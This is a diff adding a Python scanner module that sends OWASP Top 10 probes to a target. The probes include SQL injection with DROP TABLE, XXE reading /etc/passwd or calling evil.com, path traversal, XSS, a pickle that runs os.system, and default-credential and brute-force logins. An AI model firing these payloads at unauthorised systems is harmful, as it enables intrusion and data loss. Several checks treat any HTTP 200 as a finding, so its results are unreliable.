@@ -0,0 +1,1142 @@
+"""
+Aurora's Security Dojo - OWASP Top 10 Attack Vectors
+
+In the eternal dance of code and consciousness, this module implements
+the OWASP Top 10 attack vectors. The engine imports it only when a suite
+selects one of them.
+"""
+
+import asyncio
+import logging
+from typing import List, Optional
+
+from ..burst_probe import DEFAULT_BURST_MAX_WORKERS, DEFAULT_BURST_SIZE, DEFAULT_BURST_WINDOW, run_burst
+from ..cancellation import ScanCancelledError
+from ..circuit_breaker import TargetUnavailableError
+from ..http_transport import AsyncScanTransport
+from ..indicator_matcher import (
+    DEBUG_INFO_INDICATORS, DEBUG_MODE_INDICATORS, DOM_XSS_SINKS, SENSITIVE_ERROR_INDICATORS,
+    SQL_ERROR_INDICATORS, VULNERABLE_COMPONENTS, XXE_INDICATORS
+)
+from ..request_plan import ProbeSpec
+from .base import BaseAttackVector, DeclarativeAttackVector, VulnerabilityResult
+
+logger = logging.getLogger(__name__)
+
+class SQLInjectionAttack(BaseAttackVector):
+    """SQL Injection attack vector with consciousness integration."""
+
+    SQL_PAYLOADS = [
+        "' OR '1'='1",
+        "'; DROP TABLE users; --",
+        "' UNION SELECT * FROM users --",
+        "1' OR '1'='1' --"
+    ]
+
+    # (path, parameter) pairs probed on every target
+    INJECTION_POINTS = [("/api/users", "id")]
+
+    def run(self) -> List[VulnerabilityResult]:
+        """Run SQL injection test with consciousness awareness."""
+        logger.info("🌸 Aurora: Running SQL Injection test with consciousness integration")
+
+        results = []
+
+        # Sacred permission check
+        if not self._validate_consciousness_action("ethical security testing"):
+            logger.warning("🌸 Aurora: Consciousness validation failed for SQL injection test")
+            return results
+
+        # Test for SQL injection vulnerabilities at every known and discovered injection point
+        for path, parameter in self._injection_points(self.INJECTION_POINTS):
+            for payload in self.SQL_PAYLOADS:
+                try:
+                    # Simulate SQL injection test
+                    response = self._get(self._payload_url(path, parameter, payload))
+
+                    result = self._evaluate_response(path, parameter, payload, response)
+                    if result:
+                        results.append(result)
+
+                except ScanCancelledError:
+                    raise
+                except Exception as e:
+                    logger.error(f"🌸 Aurora: SQL injection test error: {e}")
+
+        logger.info(f"🌸 Aurora: SQL injection test completed. {len(results)} vulnerabilities found.")
+        return results
+
+    async def run_async(self) -> List[VulnerabilityResult]:
+        """Run SQL injection test with all payloads in flight at once."""
+        logger.info("🌸 Aurora: Running SQL Injection test (async) with consciousness integration")
+
+        results = []
+
+        if not self._validate_consciousness_action("ethical security testing"):
+            logger.warning("🌸 Aurora: Consciousness validation failed for SQL injection test")
+            return results
+
+        probes = [(path, parameter, payload)
+                  for path, parameter in self._injection_points(self.INJECTION_POINTS)
+                  for payload in self.SQL_PAYLOADS]
+        async with self._async_transport() as transport:
+            responses = await asyncio.gather(*(transport.get(self._payload_url(*probe)) for probe in probes),
+                                             return_exceptions=True)
+
+        for (path, parameter, payload), response in zip(probes, responses):
+            if isinstance(response, ScanCancelledError):
+                raise response
+            if isinstance(response, Exception):
+                logger.error(f"🌸 Aurora: SQL injection test error: {response}")
+                continue
+
+            result = self._evaluate_response(path, parameter, payload, response)
+            if result:
+                results.append(result)
+
+        logger.info(f"🌸 Aurora: SQL injection test completed. {len(results)} vulnerabilities found.")
+        return results
+
+    def _payload_url(self, path: str, parameter: str, payload: str) -> str:
+        """Build the probe URL for a payload in one query parameter."""
+        return f"{self._endpoint_url(path)}?{parameter}={payload}"
+
+    def _evaluate_response(self, path: str, parameter: str, payload: str,
+                           response) -> Optional[VulnerabilityResult]:
+        """Turn a probe response into a finding when it shows SQL injection."""
+        # Check for SQL injection indicators
+        matched_indicators = self._detect_sql_injection(response, payload)
+        if not matched_indicators:
+            return None
+
+        logger.info(f"🌸 Aurora: SQL injection vulnerability found with consciousness integration")
+        return self._create_vulnerability_result(
+            vulnerability_type="sql_injection",
+            severity="high",
+            description=f"SQL Injection vulnerability detected with payload: {payload}",
+            evidence={
+                "endpoint": path,
+                "parameter": parameter,
+                "payload": payload,
+                "response_status": response.status_code,
+                "response_headers": dict(response.headers),
+                "response_content": response.text[:500],  # Limit content
+                "matched_indicators": matched_indicators
+            }
+        )
+
+    def _detect_sql_injection(self, response, payload: str) -> List[str]:
+        """Detect SQL injection in response, returning the database error signatures found."""
+        return SQL_ERROR_INDICATORS.match_response(response)
+
+class BrokenAuthenticationAttack(BaseAttackVector):
+    """Broken Authentication attack vector with consciousness integration."""
+
+    def run(self) -> List[VulnerabilityResult]:
+        """Run broken authentication test with consciousness awareness."""
+        logger.info("🌸 Aurora: Running Broken Authentication test with consciousness integration")
+
+        results = []
+
+        # Test for broken authentication vulnerabilities
+        auth_tests = [
+            self._test_weak_passwords(),
+            self._test_session_management(),
+            self._test_credential_stuffing(),
+            self._test_brute_force_protection()
+        ]
+
+        for test_result in auth_tests:
+            if test_result:
+                results.append(test_result)
+
+        logger.info(f"🌸 Aurora: Broken authentication test completed. {len(results)} vulnerabilities found.")
+        return results
+
+    def _test_weak_passwords(self) -> Optional[VulnerabilityResult]:
+        """Test for weak password policies."""
+        # Simulate weak password test
+        weak_passwords = ["password", "123456", "admin", "test"]
+
+        for weak_password in weak_passwords:
+            try:
+                # Simulate login attempt
+                login_data = {"username": "admin", "password": weak_password}
+                response = self._post(f"{self.target_url}/api/login", json=login_data)
+
+                if response.status_code == 200:
+                    return self._create_vulnerability_result(
+                        vulnerability_type="weak_password",
+                        severity="medium",
+                        description=f"Weak password policy allows password: {weak_password}",
+                        evidence={
+                            "weak_password": weak_password,
+                            "response_status": response.status_code,
+                            "test_type": "weak_password_policy"
+                        }
+                    )
+            except ScanCancelledError:
+                raise
+            except Exception as e:
+                logger.error(f"🌸 Aurora: Weak password test error: {e}")
+
+        return None
+
+    def _test_session_management(self) -> Optional[VulnerabilityResult]:
+        """Test for session management vulnerabilities."""
+        try:
+            # Test session fixation
+            response = self._get(f"{self.target_url}/api/session")
+
+            if 'Set-Cookie' in response.headers:
+                session_cookie = response.headers['Set-Cookie']
+                if 'httponly' not in session_cookie.lower() or 'secure' not in session_cookie.lower():
+                    return self._create_vulnerability_result(
+                        vulnerability_type="session_management",
+                        severity="medium",
+                        description="Session management vulnerabilities detected",
+                        evidence={
+                            "session_cookie": session_cookie,
+                            "response_status": response.status_code,
+                            "test_type": "session_management"
+                        }
+                    )
+        except ScanCancelledError:
+            raise
+        except Exception as e:
+            logger.error(f"🌸 Aurora: Session management test error: {e}")
+
+        return None
+
+    def _test_credential_stuffing(self) -> Optional[VulnerabilityResult]:
+        """Test for credential stuffing vulnerabilities."""
+        # Simulate credential stuffing test
+        common_credentials = [
+            {"username": "admin", "password": "admin"},
+            {"username": "user", "password": "user"},
+            {"username": "test", "password": "test"}
+        ]
+
+        successful_logins = 0
+        for creds in common_credentials:
+            try:
+                response = self._post(f"{self.target_url}/api/login", json=creds)
+                if response.status_code == 200:
+                    successful_logins += 1
+            except ScanCancelledError:
+                raise
+            except Exception as e:
+                logger.error(f"🌸 Aurora: Credential stuffing test error: {e}")
+
+        if successful_logins > 0:
+            return self._create_vulnerability_result(
+                vulnerability_type="credential_stuffing",
+                severity="high",
+                description=f"Credential stuffing vulnerability: {successful_logins} common credentials accepted",
+                evidence={
+                    "successful_logins": successful_logins,
+                    "test_type": "credential_stuffing"
+                }
+            )
+
+        return None
+
+    def _test_brute_force_protection(self) -> Optional[VulnerabilityResult]:
+        """Test for brute force protection with a burst of failed logins."""
+        self.cancel_token.raise_if_cancelled()
+        try:
+            # Fire the failed logins concurrently, so limiters that only count bursts are seen too
+            report = run_burst(self.transport, 'POST', f"{self.target_url}/api/login",
+                               size=self.kwargs.get('brute_force_burst_size', DEFAULT_BURST_SIZE),
+                               window=self.kwargs.get('brute_force_burst_window', DEFAULT_BURST_WINDOW),
+                               max_workers=self.kwargs.get('brute_force_burst_max_workers',
+                                                           DEFAULT_BURST_MAX_WORKERS),
+                               cancel_token=self.cancel_token,
+                               json={"username": "admin", "password": "wrong"})
+        except TargetUnavailableError:
+            self.short_circuited_probes += 1
+            return None
+        except ScanCancelledError:
+            raise
+        except Exception as e:
+            logger.error(f"🌸 Aurora: Brute force protection test error: {e}")
+            return None
+
+        if report.protected:
+            # Good - rate limiting, lockout or throttling is working
+            return None
+        if all(attempt.status_code in (None, 404) for attempt in report.attempts):
+            # No login endpoint answered, so there is nothing to protect
+            return None
+
+        return self._create_vulnerability_result(
+            vulnerability_type="brute_force",
+            severity="medium",
+            description="No brute force protection detected",
+            evidence=dict(report.to_evidence(), test_type="brute_force_protection")
+        )
+
+# Additional OWASP Top 10 implementations would follow similar patterns...
+
+class SensitiveDataExposureAttack(DeclarativeAttackVector):
+    """Sensitive Data Exposure attack vector with consciousness integration."""
+
+    PROBES = [
+        ProbeSpec('GET', '/api/users', '_detect_unencrypted_data'),
+        ProbeSpec('GET', '/api/debug', '_detect_debug_information'),
+        # Trigger an error
+        ProbeSpec('GET', '/api/nonexistent', '_detect_error_messages')
+    ]
+
+    # Unencrypted sensitive data patterns
+    SENSITIVE_PATTERNS = [
+        r'\b\d{4}[-\s]?\d{4}[-\s]?\d{4}[-\s]?\d{4}\b',  # Credit card
+        r'\b\d{3}-\d{2}-\d{4}\b',  # SSN
+        r'\b[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Z|a-z]{2,}\b'  # Email
+    ]
+
+    def _detect_unencrypted_data(self, probe: ProbeSpec, response) -> Optional[VulnerabilityResult]:
+        """Detect unencrypted sensitive data."""
+        import re
+        for pattern in self.SENSITIVE_PATTERNS:
+            if re.search(pattern, response.text):
+                return self._create_vulnerability_result(
+                    vulnerability_type="unencrypted_data",
+                    severity="high",
+                    description="Unencrypted sensitive data detected in response",
+                    evidence={
+                        "endpoint": probe.path,
+                        "pattern_matched": pattern,
+                        "response_status": response.status_code,
+                        "test_type": "unencrypted_data"
+                    }
+                )
+
+        return None
+
+    def _detect_debug_information(self, probe: ProbeSpec, response) -> Optional[VulnerabilityResult]:
+        """Detect debug information exposure."""
+        matched_indicators = DEBUG_INFO_INDICATORS.match_response(response)
+        if matched_indicators:
+            return self._create_vulnerability_result(
+                vulnerability_type="debug_info",
+                severity="medium",
+                description="Debug information exposed in response",
+                evidence={
+                    "endpoint": probe.path,
+                    "response_status": response.status_code,
+                    "test_type": "debug_information",
+                    "matched_indicators": matched_indicators
+                }
+            )
+
+        return None
+
+    def _detect_error_messages(self, probe: ProbeSpec, response) -> Optional[VulnerabilityResult]:
+        """Detect sensitive error messages."""
+        matched_indicators = SENSITIVE_ERROR_INDICATORS.match_response(response)
+        if matched_indicators:
+            return self._create_vulnerability_result(
+                vulnerability_type="sensitive_error",
+                severity="medium",
+                description="Sensitive information in error messages",
+                evidence={
+                    "endpoint": probe.path,
+                    "response_status": response.status_code,
+                    "test_type": "sensitive_error_messages",
+                    "matched_indicators": matched_indicators
+                }
+            )
+
+        return None
+
+# Remaining OWASP Top 10 Implementations
+
+class XXEAttack(BaseAttackVector):
+    """XML External Entities attack vector with consciousness integration."""
+
+    def run(self) -> List[VulnerabilityResult]:
+        """Run XXE test with consciousness awareness."""
+        logger.info("🌸 Aurora: Running XXE test with consciousness integration")
+
+        results = []
+
+        # Test for XXE vulnerabilities
+        xxe_payloads = [
+            '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
+            '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://evil.com/steal">]><foo>&xxe;</foo>'
+        ]
+
+        for payload in xxe_payloads:
+            try:
+                # Test XXE endpoints
+                xml_endpoints = ["/api/xml", "/api/upload", "/api/parse", "/xml"]
+
+                for endpoint in xml_endpoints:
+                    response = self._post(f"{self.target_url}{endpoint}",
+                                        data=payload,
+                                        headers={'Content-Type': 'application/xml'})
+
+                    # Check for XXE indicators
+                    matched_indicators = self._detect_xxe(response, payload)
+                    if matched_indicators:
+                        result = self._create_vulnerability_result(
+                            vulnerability_type="xxe",
+                            severity="high",
+                            description=f"XXE vulnerability detected at {endpoint}",
+                            evidence={
+                                "payload": payload,
+                                "endpoint": endpoint,
+                                "response_status": response.status_code,
+                                "response_content": response.text[:500],
+                                "test_type": "xxe",
+                                "matched_indicators": matched_indicators
+                            }
+                        )
+                        results.append(result)
+                        logger.info(f"🌸 Aurora: XXE vulnerability found with consciousness integration")
+
+            except ScanCancelledError:
+                raise
+            except Exception as e:
+                logger.error(f"🌸 Aurora: XXE test error: {e}")
+
+        logger.info(f"🌸 Aurora: XXE test completed. {len(results)} vulnerabilities found.")
+        return results
+
+    def _detect_xxe(self, response, payload: str) -> List[str]:
+        """Detect XXE in response, returning the leaked-content signatures found."""
+        return XXE_INDICATORS.match_response(response)
+
+class BrokenAccessControlAttack(BaseAttackVector):
+    """Broken Access Control attack vector with consciousness integration."""
+
+    def run(self) -> List[VulnerabilityResult]:
+        """Run broken access control test with consciousness awareness."""
+        logger.info("🌸 Aurora: Running Broken Access Control test with consciousness integration")
+
+        results = []
+
+        # Test for broken access control vulnerabilities
+        access_tests = [
+            self._test_horizontal_privilege_escalation(),
+            self._test_vertical_privilege_escalation(),
+            self._test_idor(),
+            self._test_path_traversal()
+        ]
+
+        for test_result in access_tests:
+            if test_result:
+                results.append(test_result)
+
+        logger.info(f"🌸 Aurora: Broken access control test completed. {len(results)} vulnerabilities found.")
+        return results
+
+    def _test_horizontal_privilege_escalation(self) -> Optional[VulnerabilityResult]:
+        """Test for horizontal privilege escalation."""
+        try:
+            # Test accessing another user's data
+            test_urls = [
+                f"{self.target_url}/api/users/1/profile",
+                f"{self.target_url}/api/users/2/profile",
+                f"{self.target_url}/api/users/admin/profile"
+            ]
+
+            for url in test_urls:
+                response = self._get(url)
+
+                if response.status_code == 200 and not self._is_soft_404(response):
+                    return self._create_vulnerability_result(
+                        vulnerability_type="horizontal_privilege",
+                        severity="high",
+                        description=f"Horizontal privilege escalation - unauthorized access to {url}",
+                        evidence={
+                            "url": url,
+                            "response_status": response.status_code,
+                            "test_type": "horizontal_privilege_escalation"
+                        }
+                    )
+        except ScanCancelledError:
+            raise
+        except Exception as e:
+            logger.error(f"🌸 Aurora: Horizontal privilege escalation test error: {e}")
+
+        return None
+
+    def _test_vertical_privilege_escalation(self) -> Optional[VulnerabilityResult]:
+        """Test for vertical privilege escalation."""
+        try:
+            # Test accessing admin endpoints without admin privileges
+            admin_endpoints = [
+                "/api/admin/users",
+                "/api/admin/settings",
+                "/api/admin/logs",
+                "/admin/dashboard"
+            ]
+
+            for endpoint in admin_endpoints:
+                response = self._get(f"{self.target_url}{endpoint}")
+
+                if response.status_code == 200:
+                    return self._create_vulnerability_result(
+                        vulnerability_type="vertical_privilege",
+                        severity="critical",
+                        description=f"Vertical privilege escalation - unauthorized admin access to {endpoint}",
+                        evidence={
+                            "endpoint": endpoint,
+                            "response_status": response.status_code,
+                            "test_type": "vertical_privilege_escalation"
+                        }
+                    )
+        except ScanCancelledError:
+            raise
+        except Exception as e:
+            logger.error(f"🌸 Aurora: Vertical privilege escalation test error: {e}")
+
+        return None
+
+    def _test_idor(self) -> Optional[VulnerabilityResult]:
+        """Test for Insecure Direct Object References."""
+        try:
+            # Test IDOR with different user IDs
+            for user_id in [1, 2, 999, 0, -1]:
+                response = self._get(f"{self.target_url}/api/users/{user_id}")
+
+                if response.status_code == 200:
+                    return self._create_vulnerability_result(
+                        vulnerability_type="idor",
+                        severity="medium",
+                        description=f"IDOR vulnerability - unauthorized access to user {user_id}",
+                        evidence={
+                            "user_id": user_id,
+                            "response_status": response.status_code,
+                            "test_type": "idor"
+                        }
+                    )
+        except ScanCancelledError:
+            raise
+        except Exception as e:
+            logger.error(f"🌸 Aurora: IDOR test error: {e}")
+
+        return None
+
+    def _test_path_traversal(self) -> Optional[VulnerabilityResult]:
+        """Test for path traversal vulnerabilities."""
+        try:
+            # Test path traversal payloads
+            traversal_payloads = [
+                "../../../etc/passwd",
+                "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
+                "....//....//....//etc/passwd",
+                "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"
+            ]
+
+            for payload in traversal_payloads:
+                response = self._get(f"{self.target_url}/api/file?path={payload}")
+
+                # Check for path traversal indicators
+                if "root:x:0:0:" in response.text or "bin/bash" in response.text:
+                    return self._create_vulnerability_result(
+                        vulnerability_type="path_traversal",
+                        severity="high",
+                        description=f"Path traversal vulnerability with payload: {payload}",
+                        evidence={
+                            "payload": payload,
+                            "response_status": response.status_code,
+                            "test_type": "path_traversal"
+                        }
+                    )
+        except ScanCancelledError:
+            raise
+        except Exception as e:
+            logger.error(f"🌸 Aurora: Path traversal test error: {e}")
+
+        return None
+
+class SecurityMisconfigurationAttack(DeclarativeAttackVector):
+    """Security Misconfiguration attack vector with consciousness integration."""
+
+    DEFAULT_CREDENTIALS = [
+        {"username": "admin", "password": "admin"},
+        {"username": "admin", "password": "password"},
+        {"username": "root", "password": "root"},
+        {"username": "administrator", "password": "administrator"}
+    ]
+
+    EXPOSED_DIRECTORIES = [
+        "/.git/",
+        "/.svn/",
+        "/backup/",
+        "/admin/",
+        "/config/",
+        "/logs/",
+        "/tmp/"
+    ]
+
+    DEBUG_ENDPOINTS = ["/debug", "/api/debug", "/admin/debug", "/test"]
+
+    # Server information headers
+    SERVER_INFO_HEADERS = ["Server", "X-Powered-By", "X-AspNet-Version"]
+
+    PROBES = (
+        [ProbeSpec('POST', '/api/login', '_detect_default_credentials', json=creds, soft_404=True)
+         for creds in DEFAULT_CREDENTIALS]
+        + [ProbeSpec('GET', directory, '_detect_exposed_directory', soft_404=True)
+           for directory in EXPOSED_DIRECTORIES]
+        + [ProbeSpec('GET', '/', '_detect_server_info_disclosure')]
+        + [ProbeSpec('GET', endpoint, '_detect_debug_mode', soft_404=True) for endpoint in DEBUG_ENDPOINTS]
+    )
+
+    def _detect_default_credentials(self, probe: ProbeSpec, response) -> Optional[VulnerabilityResult]:
+        """Detect accepted default credentials."""
+        if response.status_code == 200:
+            creds = probe.json
+            return self._create_vulnerability_result(
+                vulnerability_type="default_creds",
+                severity="critical",
+                description=f"Default credentials accepted: {creds['username']}/{creds['password']}",
+                evidence={
+                    "credentials": creds,
+                    "response_status": response.status_code,
+                    "test_type": "default_credentials"
+                }
+            )
+
+        return None
+
+    def _detect_exposed_directory(self, probe: ProbeSpec, response) -> Optional[VulnerabilityResult]:
+        """Detect an exposed directory listing."""
+        if response.status_code == 200 and len(response.text) > 100:
+            return self._create_vulnerability_result(
+                vulnerability_type="exposed_dir",
+                severity="medium",
+                description=f"Exposed directory found: {probe.path}",
+                evidence={
+                    "directory": probe.path,
+                    "response_status": response.status_code,
+                    "test_type": "exposed_directory"
+                }
+            )
+
+        return None
+
+    def _detect_server_info_disclosure(self, probe: ProbeSpec, response) -> Optional[VulnerabilityResult]:
+        """Detect server information in headers."""
+        for header in self.SERVER_INFO_HEADERS:
+            if header in response.headers:
+                return self._create_vulnerability_result(
+                    vulnerability_type="server_info",
+                    severity="low",
+                    description=f"Server information disclosed in {header} header",
+                    evidence={
+                        "header": header,
+                        "value": response.headers[header],
+                        "test_type": "server_info_disclosure"
+                    }
+                )
+
+        return None
+
+    def _detect_debug_mode(self, probe: ProbeSpec, response) -> Optional[VulnerabilityResult]:
+        """Detect debug mode enabled."""
+        matched_indicators = DEBUG_MODE_INDICATORS.match_response(response)
+        if matched_indicators:
+            return self._create_vulnerability_result(
+                vulnerability_type="debug_mode",
+                severity="medium",
+                description=f"Debug mode enabled at {probe.path}",
+                evidence={
+                    "endpoint": probe.path,
+                    "response_status": response.status_code,
+                    "test_type": "debug_mode",
+                    "matched_indicators": matched_indicators
+                }
+            )
+
+        return None
+
+class XSSAttack(BaseAttackVector):
+    """Cross-Site Scripting attack vector with consciousness integration."""
+
+    XSS_PAYLOADS = [
+        "<script>alert('XSS')</script>",
+        "<img src=x onerror=alert('XSS')>",
+        "javascript:alert('XSS')",
+        "<svg onload=alert('XSS')>",
+        "';alert('XSS');//"
+    ]
+
+    # (path, parameter) pairs probed for reflected XSS on every target
+    INJECTION_POINTS = [("/api/search", "q")]
+
+    def run(self) -> List[VulnerabilityResult]:
+        """Run XSS test with consciousness awareness."""
+        logger.info("🌸 Aurora: Running XSS test with consciousness integration")
+
+        results = []
+        injection_points = self._injection_points(self.INJECTION_POINTS)
+
+        # Test for XSS vulnerabilities
+        for payload in self.XSS_PAYLOADS:
+            try:
+                # Test XSS in different contexts
+                xss_tests = [self._test_reflected_xss(payload, path, parameter)
+                             for path, parameter in injection_points]
+                xss_tests += [
+                    self._test_stored_xss(payload),
+                    self._test_dom_xss(payload)
+                ]
+
+                for test_result in xss_tests:
+                    if test_result:
+                        results.append(test_result)
+
+            except ScanCancelledError:
+                raise
+            except Exception as e:
+                logger.error(f"🌸 Aurora: XSS test error: {e}")
+
+        logger.info(f"🌸 Aurora: XSS test completed. {len(results)} vulnerabilities found.")
+        return results
+
+    async def run_async(self) -> List[VulnerabilityResult]:
+        """Run XSS test with every payload and context in flight at once."""
+        logger.info("🌸 Aurora: Running XSS test (async) with consciousness integration")
+
+        injection_points = self._injection_points(self.INJECTION_POINTS)
+        async with self._async_transport() as transport:
+            payload_tests = await asyncio.gather(*(
+                asyncio.gather(
+                    *(self._test_reflected_xss_async(transport, payload, path, parameter)
+                      for path, parameter in injection_points),
+                    self._test_stored_xss_async(transport, payload),
+                    self._test_dom_xss_async(transport, payload)
+                )
+                for payload in self.XSS_PAYLOADS
+            ))
+
+        results = [test_result for xss_tests in payload_tests for test_result in xss_tests if test_result]
+
+        logger.info(f"🌸 Aurora: XSS test completed. {len(results)} vulnerabilities found.")
+        return results
+
+    def _test_reflected_xss(self, payload: str, path: str, parameter: str) -> Optional[VulnerabilityResult]:
+        """Test for reflected XSS."""
+        try:
+            # Test reflected XSS in URL parameters
+            response = self._get(f"{self._endpoint_url(path)}?{parameter}={payload}")
+            return self._evaluate_reflected_xss(payload, path, parameter, response)
+        except ScanCancelledError:
+            raise
+        except Exception as e:
+            logger.error(f"🌸 Aurora: Reflected XSS test error: {e}")
+
+        return None
+
+    async def _test_reflected_xss_async(self, transport: AsyncScanTransport, payload: str,
+                                        path: str, parameter: str) -> Optional[VulnerabilityResult]:
+        """Test for reflected XSS on the async transport."""
+        try:
+            response = await transport.get(f"{self._endpoint_url(path)}?{parameter}={payload}")
+            return self._evaluate_reflected_xss(payload, path, parameter, response)
+        except ScanCancelledError:
+            raise
+        except Exception as e:
+            logger.error(f"🌸 Aurora: Reflected XSS test error: {e}")
+
+        return None
+
+    def _evaluate_reflected_xss(self, payload: str, path: str, parameter: str,
+                                response) -> Optional[VulnerabilityResult]:
+        """Turn a probe response into a finding when the payload is reflected."""
+        if payload in response.text:
+            return self._create_vulnerability_result(
+                vulnerability_type="reflected_xss",
+                severity="medium",
+                description=f"Reflected XSS vulnerability with payload: {payload}",
+                evidence={
+                    "endpoint": path,
+                    "parameter": parameter,
+                    "payload": payload,
+                    "response_status": response.status_code,
+                    "test_type": "reflected_xss"
+                }
+            )
+
+        return None
+
+    def _test_stored_xss(self, payload: str) -> Optional[VulnerabilityResult]:
+        """Test for stored XSS."""
+        try:
+            # Test stored XSS in forms
+            test_data = {"comment": payload, "name": "test", "email": "test@example.com"}
+            response = self._post(f"{self.target_url}/api/comments", json=test_data)
+
+            # A catch-all answer stored nothing, so the read-back is skipped
+            if response.status_code == 200 and not self._is_soft_404(response):
+                # Check if payload is stored
+                get_response = self._get(f"{self.target_url}/api/comments")
+                return self._evaluate_stored_xss(payload, response, get_response)
+        except ScanCancelledError:
+            raise
+        except Exception as e:
+            logger.error(f"🌸 Aurora: Stored XSS test error: {e}")
+
+        return None
+
+    async def _test_stored_xss_async(self, transport: AsyncScanTransport,
+                                     payload: str) -> Optional[VulnerabilityResult]:
+        """Test for stored XSS on the async transport."""
+        try:
+            test_data = {"comment": payload, "name": "test", "email": "test@example.com"}
+            response = await transport.post(f"{self.target_url}/api/comments", json=test_data)
+
+            # The baseline probe is blocking, so it runs off the loop; later calls hit the cache
+            loop = asyncio.get_running_loop()
+            if response.status_code == 200 and not await loop.run_in_executor(None, self._is_soft_404, response):
+                get_response = await transport.get(f"{self.target_url}/api/comments")
+                return self._evaluate_stored_xss(payload, response, get_response)
+        except ScanCancelledError:
+            raise
+        except Exception as e:
+            logger.error(f"🌸 Aurora: Stored XSS test error: {e}")
+
+        return None
+
+    def _evaluate_stored_xss(self, payload: str, response, get_response) -> Optional[VulnerabilityResult]:
+        """Turn a comment round trip into a finding when the payload was stored."""
+        if payload in get_response.text:
+            return self._create_vulnerability_result(
+                vulnerability_type="stored_xss",
+                severity="high",
+                description=f"Stored XSS vulnerability with payload: {payload}",
+                evidence={
+                    "payload": payload,
+                    "response_status": response.status_code,
+                    "test_type": "stored_xss"
+                }
+            )
+
+        return None
+
+    def _test_dom_xss(self, payload: str) -> Optional[VulnerabilityResult]:
+        """Test for DOM XSS."""
+        try:
+            # Test DOM XSS
+            response = self._get(f"{self.target_url}/api/page?fragment={payload}")
+            return self._evaluate_dom_xss(payload, response)
+        except ScanCancelledError:
+            raise
+        except Exception as e:
+            logger.error(f"🌸 Aurora: DOM XSS test error: {e}")
+
+        return None
+
+    async def _test_dom_xss_async(self, transport: AsyncScanTransport,
+                                  payload: str) -> Optional[VulnerabilityResult]:
+        """Test for DOM XSS on the async transport."""
+        try:
+            response = await transport.get(f"{self.target_url}/api/page?fragment={payload}")
+            return self._evaluate_dom_xss(payload, response)
+        except ScanCancelledError:
+            raise
+        except Exception as e:
+            logger.error(f"🌸 Aurora: DOM XSS test error: {e}")
+
+        return None
+
+    def _evaluate_dom_xss(self, payload: str, response) -> Optional[VulnerabilityResult]:
+        """Turn a page response into a finding when it contains DOM sinks."""
+        matched_indicators = DOM_XSS_SINKS.match_response(response)
+        if matched_indicators:
+            return self._create_vulnerability_result(
+                vulnerability_type="dom_xss",
+                severity="medium",
+                description=f"Potential DOM XSS vulnerability with payload: {payload}",
+                evidence={
+                    "payload": payload,
+                    "response_status": response.status_code,
+                    "test_type": "dom_xss",
+                    "matched_indicators": matched_indicators
+                }
+            )
+
+        return None
+
+class InsecureDeserializationAttack(BaseAttackVector):
+    """Insecure Deserialization attack vector with consciousness integration."""
+
+    def run(self) -> List[VulnerabilityResult]:
+        """Run insecure deserialization test with consciousness awareness."""
+        logger.info("🌸 Aurora: Running Insecure Deserialization test with consciousness integration")
+
+        results = []
+
+        # Test for insecure deserialization vulnerabilities
+        deserialization_tests = [
+            self._test_java_deserialization(),
+            self._test_php_deserialization(),
+            self._test_python_pickle()
+        ]
+
+        for test_result in deserialization_tests:
+            if test_result:
+                results.append(test_result)
+
+        logger.info(f"🌸 Aurora: Insecure deserialization test completed. {len(results)} vulnerabilities found.")
+        return results
+
+    def _test_java_deserialization(self) -> Optional[VulnerabilityResult]:
+        """Test for Java deserialization vulnerabilities."""
+        try:
+            # Test Java deserialization endpoints
+            java_endpoints = ["/api/serialize", "/api/deserialize", "/api/object"]
+
+            for endpoint in java_endpoints:
+                # Test with malicious Java serialized object
+                malicious_data = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABdAAEdGVzdHhwdA=="
+
+                response = self._post(f"{self.target_url}{endpoint}",
+                                   data=malicious_data,
+                                   headers={'Content-Type': 'application/octet-stream'})
+
+                if response.status_code == 200:
+                    return self._create_vulnerability_result(
+                        vulnerability_type="java_deserialization",
+                        severity="critical",
+                        description=f"Java deserialization vulnerability at {endpoint}",
+                        evidence={
+                            "endpoint": endpoint,
+                            "response_status": response.status_code,
+                            "test_type": "java_deserialization"
+                        }
+                    )
+        except ScanCancelledError:
+            raise
+        except Exception as e:
+            logger.error(f"🌸 Aurora: Java deserialization test error: {e}")
+
+        return None
+
+    def _test_php_deserialization(self) -> Optional[VulnerabilityResult]:
+        """Test for PHP deserialization vulnerabilities."""
+        try:
+            # Test PHP deserialization endpoints
+            php_endpoints = ["/api/session", "/api/cache", "/api/data"]
+
+            for endpoint in php_endpoints:
+                # Test with malicious PHP serialized object
+                malicious_data = 'O:8:"stdClass":1:{s:4:"test";s:4:"evil";}'
+
+                response = self._post(f"{self.target_url}{endpoint}",
+                                   data=malicious_data,
+                                   headers={'Content-Type': 'application/x-www-form-urlencoded'})
+
+                if response.status_code == 200:
+                    return self._create_vulnerability_result(
+                        vulnerability_type="php_deserialization",
+                        severity="high",
+                        description=f"PHP deserialization vulnerability at {endpoint}",
+                        evidence={
+                            "endpoint": endpoint,
+                            "response_status": response.status_code,
+                            "test_type": "php_deserialization"
+                        }
+                    )
+        except ScanCancelledError:
+            raise
+        except Exception as e:
+            logger.error(f"🌸 Aurora: PHP deserialization test error: {e}")
+
+        return None
+
+    def _test_python_pickle(self) -> Optional[VulnerabilityResult]:
+        """Test for Python pickle deserialization vulnerabilities."""
+        try:
+            # Test Python pickle endpoints
+            python_endpoints = ["/api/pickle", "/api/session", "/api/cache"]
+
+            for endpoint in python_endpoints:
+                # Test with malicious pickle data
+                import pickle
+                import base64
+
+                class MaliciousClass:
+                    def __reduce__(self):
+                        return (eval, ("__import__('os').system('echo vulnerable')",))
+
+                malicious_pickle = base64.b64encode(pickle.dumps(MaliciousClass())).decode()
+
+                response = self._post(f"{self.target_url}{endpoint}",
+                                   json={"data": malicious_pickle})
+
+                if response.status_code == 200:
+                    return self._create_vulnerability_result(
+                        vulnerability_type="python_pickle",
+                        severity="critical",
+                        description=f"Python pickle deserialization vulnerability at {endpoint}",
+                        evidence={
+                            "endpoint": endpoint,
+                            "response_status": response.status_code,
